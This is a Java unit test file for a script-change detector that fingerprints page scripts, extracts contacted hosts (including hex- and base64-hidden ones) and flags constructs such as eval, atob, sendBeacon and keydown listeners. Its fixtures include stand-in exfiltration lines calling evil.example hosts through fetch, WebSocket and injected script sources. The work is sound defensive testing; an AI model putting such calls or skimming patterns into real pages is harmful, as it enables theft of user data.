package org.tagwarden.collector.changes.text;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ScriptTextTest {
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "a=1;b()| a = 1 ; b( ) // done",
        "/* v1 */run()|/* v2, built today */run()",
        "x('a')|x(\"a\")",
        "s.nonce='r4nd0m'|s.nonce='0th3r'",
        "load({nonce:'abc',src:u})|load({nonce:'xyz',src:u})",
        "var buildId='8431'|var buildId='8432'",
        "w.__build=1772431200|w.__build=1772517600",
        "t=1772431200123|t=1772517600456",
        "made='2026-03-02T06:00:00Z'|made='2026-03-03T07:10:00Z'",
        "i('/assets/app.3f9a2c71.js')|i('/assets/app.81b0d2e4.js')",
        "v='2.14.1'|v='2.14.2'",
        "c={a:1,b:'x',c:true,d:null};f(c)|c={a:2,b:'y',c:false,e:[1,2]};f(c)",
        "JSON.parse('{\"a\":1}')|JSON.parse('{\"b\":[2]}')",
        "k='Zm9vYmFyMTIzNDU2Nzg5MA=='|k='QmFyZm9vOTg3NjU0MzIxMA=='",
        "f(1,)|f(1)",
        "function f(){a();}|function f(){a()}",
      })
  void what_changes_with_every_build_or_load_is_the_same_text(String before, String now) {
    assertThat(ScriptText.of(now).fingerprint()).isEqualTo(ScriptText.of(before).fingerprint());
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "a()|b()",
        "a(1)|a(2)",
        "a('x')|a('y')",
        "a+b|a-b",
        "if(x)a()|if(!x)a()",
        "f({a:1})|f({a:2})",
        "r=/a/|r=/b/",
        "`a${b}`|`a${c}`",
        "i('/assets/app.3f9a2c71.js')|i('/assets/pay.3f9a2c71.js')",
        "send(d,{to:h})|send(d,{to:g})",
        "c={a:1,b:2,c:3,d:f()}|c={a:1,b:2,c:3,d:g()}",
      })
  void other_code_is_another_text(String before, String now) {
    assertThat(ScriptText.of(now).fingerprint()).isNotEqualTo(ScriptText.of(before).fingerprint());
  }

  @Test
  void an_inline_script_with_other_data_has_the_same_skeleton_and_another_address_does_not() {
    String shoes = skeleton("track('view','Red shoes');load('https://a.example/x.js?c=1')");

    assertThat(skeleton("track('view','Blue hat');load('https://a.example/x.js?c=2')"))
        .isEqualTo(shoes);
    assertThat(skeleton("track('view','Red shoes');load('https://b.example/x.js')"))
        .isNotEqualTo(shoes);
    assertThat(skeleton("track('view','Red shoes');steal();load('https://a.example/x.js')"))
        .isNotEqualTo(shoes);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "fetch('https://evil.example/c')|evil.example",
        "s.src='//cdn.evil.example/a.js'|cdn.evil.example",
        "new WebSocket('wss://ws.evil.example')|ws.evil.example",
        "h='collect.evil.example'|collect.evil.example",
        "u=`https://t.evil.example/${id}`|t.evil.example",
        "u='\\x68ttps://hid.evil.example'|hid.evil.example",
        "atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYw==')|evil.example",
        "c={u:'https://blob.example/',a:1,b:2,c:3,d:4}|blob.example",
      })
  void hosts_are_found_in_strings_and_also_in_base64(String text, String host) {
    assertThat(ScriptText.of(text).hosts()).containsExactly(host);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "x='user.name'",
        "x='app.min.js'",
        "// https://in.a.comment.example",
        "x='1.2.3.4'",
        "x=a.b.com",
        "x='and/or..so'",
      })
  void what_only_looks_like_a_host_is_none(String text) {
    assertThat(ScriptText.of(text).hosts()).isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "eval(x)|eval",
        "window.eval(x)|eval",
        "new Function('a',b)|new Function",
        "atob(x)|atob",
        "String.fromCharCode(1)|fromCharCode",
        "document.write(x)|document.write",
        "setTimeout('a()',1)|setTimeout with text",
        "navigator.sendBeacon(u,d)|sendBeacon",
        "f.addEventListener('keydown',g)|key listener",
      })
  void constructs_that_run_text_or_send_are_named(String text, String construct) {
    assertThat(ScriptText.of(text).constructs()).containsExactly(construct);
  }

  @Test
  void names_in_strings_comments_and_declarations_are_no_constructs() {
    assertThat(
            ScriptText.of("x='eval(1)';// eval(1)\nfile.write(a);setTimeout(f,1);r=/eval(1)/")
                .constructs())
        .isEmpty();
  }

  private static String skeleton(String text) {
    return ScriptText.of(text).skeleton();
  }
}
